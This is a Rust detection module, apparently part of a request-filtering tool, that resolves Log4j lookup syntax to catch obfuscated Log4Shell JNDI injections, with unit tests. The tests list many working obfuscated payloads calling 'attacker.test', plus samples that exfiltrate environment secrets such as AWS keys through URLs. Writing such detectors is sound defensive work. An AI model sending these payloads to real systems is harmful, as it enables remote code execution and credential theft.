//! Log4Shell: JNDI lookups that Log4j 2 expands in logged text (`${jndi:ldap://…}`), however they are disguised.
//!
//! Log4j resolves `${…}` recursively: nested lookups are expanded first, then `name:-default` falls back to the
//! default when the lookup fails, `${lower:…}`/`${upper:…}` change case, `${date:'j'}` prints its quoted text. So
//! `${${lower:J}${::-n}${env:NOPE:-d}i:ldap://…}` is a JNDI lookup. This module evaluates that lookup language far
//! enough to see what each lookup's name resolves to, in one pass over the value, with fixed buffers on the stack
//! and a bounded nesting depth, and reports a lookup whose resolved name starts with `jndi:`.
//!
//! - **Low**: a lookup that resolves to `jndi:…` (plain, nested, case or Unicode tricks, defaults, `date:`); a
//!   lookup whose default spells `${jndi:` (Log4j substitutes a lookup's value again); nesting deeper than Log4j
//!   needs ([`MAX_DEPTH`]).
//! - **Medium**: also lookups nested inside a lookup's name (`${${lower:…}…}`: nothing benign nests them),
//!   `${base64:…}` lookups (their decoded value is substituted again), and `${env:…}`/`${sys:…}`-style lookups
//!   inside a URL (secrets exfiltrated through a DNS name or a path).
//! - **High**: also any `${name:` with a Log4j lookup name (`${env:HOME}`, `${date:…}`).

use super::{ByteSet, Sensitivity, Subject};

/// How deeply lookups may nest before the value is reported: Log4j needs a handful for every known obfuscation.
pub const MAX_DEPTH: usize = 12;
/// Bytes of a lookup's resolved name (and of its default) kept: enough to read its prefix.
const KEEP: usize = 24;

/// Lookup names Log4j 2 knows (with the `:` that follows them), for the weak signal at High.
const LOOKUPS: &[&[u8]] = &[
    b"jndi:",
    b"env:",
    b"sys:",
    b"java:",
    b"main:",
    b"ctx:",
    b"map:",
    b"date:",
    b"lower:",
    b"upper:",
    b"k8s:",
    b"docker:",
    b"spring:",
    b"web:",
    b"log4j:",
    b"bundle:",
    b"marker:",
    b"sd:",
    b"event:",
    b"base64:",
    b"jvmrunargs:",
    b"hostname:",
];
/// Lookups that read secrets from the environment or the JVM: exfiltration when they sit in a URL.
const SECRET_LOOKUPS: &[&[u8]] =
    &[b"env:", b"sys:", b"java:", b"ctx:", b"main:", b"bundle:", b"k8s:", b"docker:", b"spring:", b"hostname:"];

/// Whether `subject` carries a Log4Shell lookup at `sensitivity`.
pub fn detect(subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
    let text = subject.decoded;
    // Every lookup starts with `${`; most values have no `$` at all (the byte set says so without a scan).
    if !subject.bytes.all_of(ByteSet::bytes(b"${")) || memchr::memmem::find(text, b"${").is_none() {
        return false;
    }
    let mut seen = Seen::default();
    let mut pos = 0;
    while let Some(at) = find_open(text, pos) {
        let mut name = Name::default();
        let end = lookup(text, at + 2, 1, &mut name, &mut seen);
        seen.judge(&name);
        if seen.jndi || seen.too_deep {
            return true;
        }
        match end {
            Some(next) => pos = next,
            // Unclosed: every later `${` was scanned as nested inside it.
            None => break,
        }
    }
    match sensitivity {
        Sensitivity::Low => false,
        Sensitivity::Medium => seen.nested || seen.encoded || (seen.secret && has_url(subject.lower)),
        Sensitivity::High => seen.nested || seen.encoded || seen.secret || seen.known,
    }
}

/// What the scan found, over every lookup of the value.
#[derive(Default)]
struct Seen {
    /// A lookup resolved to `jndi:…`.
    jndi: bool,
    /// Lookups nested deeper than [`MAX_DEPTH`].
    too_deep: bool,
    /// A lookup inside another lookup's name.
    nested: bool,
    /// A lookup that reads the environment or JVM.
    secret: bool,
    /// A `${base64:…}` lookup: its value, chosen by the sender, is substituted again.
    encoded: bool,
    /// A lookup with a name Log4j knows.
    known: bool,
}

impl Seen {
    /// Records what one resolved lookup name says.
    fn judge(&mut self, name: &Name) {
        let head = name.head();
        // A lookup's value is substituted again: a default that spells `${jndi:` is a JNDI lookup too.
        if starts_with_ignore_case(head, b"jndi:") || contains_ignore_case(name.default_value(), b"${jndi:") {
            self.jndi = true;
        }
        if SECRET_LOOKUPS.iter().any(|l| starts_with_ignore_case(head, l)) {
            self.secret = true;
        }
        if starts_with_ignore_case(head, b"base64:") {
            self.encoded = true;
        }
        if LOOKUPS.iter().any(|l| starts_with_ignore_case(head, l)) {
            self.known = true;
        }
    }
}

/// A lookup's name as it resolves, kept to its first [`KEEP`] bytes, and the default after its first `:-`.
struct Name {
    head: [u8; KEEP],
    head_len: usize,
    default: [u8; KEEP],
    default_len: usize,
    /// Whether `:-` has been seen (the default is being collected).
    in_default: bool,
    /// The last byte pushed, to see `:-` across pushes.
    last: u8,
}

impl Default for Name {
    fn default() -> Name {
        Name { head: [0; KEEP], head_len: 0, default: [0; KEEP], default_len: 0, in_default: false, last: 0 }
    }
}

impl Name {
    fn push(&mut self, byte: u8) {
        if self.in_default {
            if let Some(slot) = self.default.get_mut(self.default_len) {
                *slot = byte;
                self.default_len += 1;
            }
        } else if self.last == b':' && byte == b'-' {
            self.in_default = true;
        }
        if let Some(slot) = self.head.get_mut(self.head_len) {
            *slot = byte;
            self.head_len += 1;
        }
        self.last = byte;
    }

    fn push_all(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.push(b);
        }
    }

    fn head(&self) -> &[u8] {
        self.head.get(..self.head_len).unwrap_or_default()
    }

    fn default_value(&self) -> &[u8] {
        self.default.get(..self.default_len).unwrap_or_default()
    }

    /// Appends what Log4j would put in place of the lookup named `inner` (already resolved) to `self`.
    fn push_value_of(&mut self, inner: &Name) {
        let head = inner.head();
        if let Some(rest) = strip_prefix_ignore_case(head, b"lower:") {
            for (b, folded) in Folded::new(key_part(rest)) {
                self.push(if folded { b } else { b.to_ascii_lowercase() });
            }
        } else if let Some(rest) = strip_prefix_ignore_case(head, b"upper:") {
            for (b, folded) in Folded::new(key_part(rest)) {
                self.push(if folded { b } else { b.to_ascii_uppercase() });
            }
        } else if let Some(rest) = strip_prefix_ignore_case(head, b"date:") {
            self.push_date(key_part(rest));
        } else if inner.in_default {
            // An unknown or failing lookup (`${::-j}`, `${env:NOPE:-j}`) yields its default.
            self.push_all(inner.default_value());
        } else {
            // Unresolved lookups stay as text; a `$` keeps the result from reading as anything.
            self.push(b'$');
        }
    }

    /// `${date:…}` prints a SimpleDateFormat: quoted text as is, pattern letters as digits.
    fn push_date(&mut self, format: &[u8]) {
        let mut quoted = false;
        for &b in format {
            if b == b'\'' {
                quoted = !quoted;
            } else if quoted || !b.is_ascii_alphabetic() {
                self.push(b);
            } else {
                self.push(b'0');
            }
        }
    }
}

/// The part of a lookup's key before its `:-default`.
fn key_part(rest: &[u8]) -> &[u8] {
    match memchr::memmem::find(rest, b":-") {
        Some(at) => rest.get(..at).unwrap_or(rest),
        None => rest,
    }
}

/// Bytes of a key with the non-ASCII letters Java case-maps onto ASCII ones (`ı` → `I`, `ſ` → `S`, Kelvin `K` →
/// `k`) folded: `(byte, already folded)`.
struct Folded<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Folded<'a> {
    fn new(bytes: &'a [u8]) -> Folded<'a> {
        Folded { bytes, pos: 0 }
    }
}

impl Iterator for Folded<'_> {
    type Item = (u8, bool);

    fn next(&mut self) -> Option<(u8, bool)> {
        let rest = self.bytes.get(self.pos..)?;
        let first = *rest.first()?;
        let mapped = match rest {
            [0xC4, 0xB1, ..] => Some((b'I', 2)),
            [0xC5, 0xBF, ..] => Some((b'S', 2)),
            [0xE2, 0x84, 0xAA, ..] => Some((b'k', 3)),
            _ => None,
        };
        match mapped {
            Some((b, len)) => {
                self.pos += len;
                Some((b, true))
            }
            None => {
                self.pos += 1;
                Some((first, false))
            }
        }
    }
}

/// Resolves the lookup whose name starts at `pos` (just past `${`) into `name`, recursing into nested lookups.
/// Returns the position just past its closing `}`, or `None` if the value ends first.
fn lookup(text: &[u8], mut pos: usize, depth: usize, name: &mut Name, seen: &mut Seen) -> Option<usize> {
    while let Some(&b) = text.get(pos) {
        match b {
            b'}' => return Some(pos + 1),
            b'$' if text.get(pos + 1) == Some(&b'{') => {
                seen.nested = true;
                if depth >= MAX_DEPTH {
                    seen.too_deep = true;
                    return None;
                }
                let mut inner = Name::default();
                let end = lookup(text, pos + 2, depth + 1, &mut inner, seen);
                seen.judge(&inner);
                name.push_value_of(&inner);
                pos = end?;
            }
            _ => {
                name.push(b);
                pos += 1;
            }
        }
    }
    None
}

/// The next `${` at or after `from`.
fn find_open(text: &[u8], from: usize) -> Option<usize> {
    let rest = text.get(from..)?;
    memchr::memmem::find(rest, b"${").map(|at| from + at)
}

/// Whether the (lower-case) value holds a URL or a host name a lookup could be sent to.
fn has_url(lower: &[u8]) -> bool {
    memchr::memmem::find(lower, b"://").is_some()
}

fn starts_with_ignore_case(text: &[u8], prefix: &[u8]) -> bool {
    text.get(..prefix.len()).is_some_and(|head| head.eq_ignore_ascii_case(prefix))
}

fn contains_ignore_case(text: &[u8], needle: &[u8]) -> bool {
    text.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

fn strip_prefix_ignore_case<'a>(text: &'a [u8], prefix: &[u8]) -> Option<&'a [u8]> {
    if starts_with_ignore_case(text, prefix) {
        text.get(prefix.len()..)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::Place;

    fn at(text: &str, sensitivity: Sensitivity) -> bool {
        let lower = text.to_ascii_lowercase();
        detect(&Subject::plain(text.as_bytes(), lower.as_bytes(), Place::Query), sensitivity)
    }

    fn level(text: &str) -> Option<Sensitivity> {
        [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].into_iter().find(|&s| at(text, s))
    }

    #[test]
    fn plain_and_obfuscated_jndi_lookups_are_found_at_low() {
        for attack in [
            "${jndi:ldap://attacker.test/a}",
            "prefix ${JNDI:rmi://attacker.test:1099/x} suffix",
            "${jNdI:dns://attacker.test}",
            "${${lower:j}ndi:ldaps://attacker.test/x}",
            "${${upper:j}${upper:n}${upper:d}${upper:i}:iiop://attacker.test/}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.test/z}",
            "${${env:NOT_SET:-j}ndi${env:NOT_SET:-:}${env:NOT_SET:-l}dap${env:NOT_SET:-:}//attacker.test/a}",
            "${${sys:nothing:-J}ndi:corba://attacker.test/}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:nds://attacker.test/}",
            "${${lower:${lower:jndi}}:${lower:rmi}://attacker.test/}",
            "${${::-${::-j}}ndi:http://attacker.test/}",
            "${jnd${upper:\u{131}}:ldap://attacker.test/}",
            "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.test/}",
            "${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://x.test}",
            "${jndi:ldap://attacker.test/${env:USER}",
            "$${sys:a:-${sys:b:-$}{jndi:rmi://attacker.test/x}}",
        ] {
            assert_eq!(level(attack), Some(Sensitivity::Low), "{attack}");
        }
    }

    #[test]
    fn padding_before_the_default_does_not_hide_it() {
        let padded = format!("${{${{{}:-j}}ndi:ldap://attacker.test/}}", "a".repeat(200));
        assert_eq!(level(&padded), Some(Sensitivity::Low));
    }

    #[test]
    fn nesting_past_the_bound_is_reported() {
        let deep = "${".repeat(MAX_DEPTH + 2) + "x" + &"}".repeat(MAX_DEPTH + 2);
        assert_eq!(level(&deep), Some(Sensitivity::Low));
    }

    #[test]
    fn nested_and_exfiltrating_lookups_are_found_at_medium() {
        for attack in [
            "${${base64:am5kaQ==}:ldap://attacker.test/}",
            "${base64:JHtqbmRpOmRuczovL2F0dGFja2VyLnRlc3R9}",
            "http://attacker.test/?leak=${env:AWS_SECRET_ACCESS_KEY}",
            "https://${sys:user.name}.attacker.test/",
        ] {
            assert_eq!(level(attack), Some(Sensitivity::Medium), "{attack}");
        }
    }

    #[test]
    fn plain_lookups_are_found_at_high() {
        for attack in ["${env:HOME}", "user ${sys:java.version}", "${date:yyyy}", "${ctx:loginId}"] {
            assert_eq!(level(attack), Some(Sensitivity::High), "{attack}");
        }
    }

    #[test]
    fn benign_look_alikes_pass_at_every_level() {
        for benign in [
            "${price}",
            "costs ${amount} per month",
            "jndi is a Java API",
            "ldap://directory.example.com/ou=people",
            "$ {jndi}",
            "{jndi:ldap}",
            "${",
            "}}}${}",
            "template ${user.name} and ${order.id}",
            "O'Brien paid $5 {approx}",
        ] {
            assert_eq!(level(benign), None, "{benign}");
        }
    }

    #[test]
    fn linear_on_long_runs() {
        for unit in ["${", "${a:-", "${a}", "}", "${lower:", "$", "${::-j}", "${date:'", "${${a}", ":-", "${jndi"] {
            let text = unit.repeat(20_000);
            let _ = level(&text);
        }
    }

    #[test]
    fn arbitrary_bytes_never_panic() {
        let mut rng = crate::token_analysis::test_rng::Rng(0x9E37_79B9_7F4A_7C15);
        let mut next = move || rng.next();
        let alphabet = b"${}:-jndiJ'lowerupp\xc4\xb1 ";
        for _ in 0..4000 {
            let len = (next() % 64) as usize;
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    let r = next();
                    if r % 3 == 0 {
                        r as u8
                    } else {
                        alphabet[(r >> 8) as usize % alphabet.len()]
                    }
                })
                .collect();
            let lower = bytes.to_ascii_lowercase();
            for s in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                detect(&Subject::plain(&bytes, &lower, Place::Json), s);
            }
        }
    }
}
